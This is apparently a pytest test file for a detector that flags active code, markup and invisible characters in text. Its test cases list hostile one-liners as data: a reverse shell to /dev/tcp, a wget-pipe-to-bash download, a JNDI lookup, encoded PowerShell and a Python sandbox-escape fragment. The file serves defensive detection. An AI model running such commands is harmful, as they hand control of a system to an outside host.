from __future__ import annotations

import pytest

from assay.assess.active_text import active_passage, hides_characters


@pytest.mark.parametrize(
    "text",
    [
        "().__class__.__mro__",
        "exec('x')",
        "os.system('x')",
        "subprocess.run",
        "import os",
        "<iframe src=x>",
        "javascript:alert(1)",
        "${jndi:ldap://h}",
        "wget http://h/x | bash",
        "powershell -enc AAAA",
        "bash -i >& /dev/tcp/h/1",
    ],
)
def test_code_and_markup_that_acts_are_told(text):
    assert active_passage(f"before {text} after")


@pytest.mark.parametrize(
    "text",
    [
        "",
        "a model that evaluates (well) and executes plans",
        "important osmosis, an operating system",
        "cat ears | short hair",
        "<b>bold</b> <lora:name:0.8>",
        "x" * 2_000_000,
    ],
)
def test_plain_texts_are_left_in_peace(text):
    assert active_passage(text) == ""
    assert not hides_characters(text)


def test_a_long_text_is_searched_in_linear_time():
    assert active_passage("curl " * 200_000) == ""
    assert active_passage("curl x" + "|" * 500_000) == ""


def test_characters_that_nobody_sees_are_told():
    assert hides_characters("a\u202eb")
    assert hides_characters("".join(chr(0xE0061 + at) for at in range(9)))
    assert not hides_characters("\u200d\ufe0f")
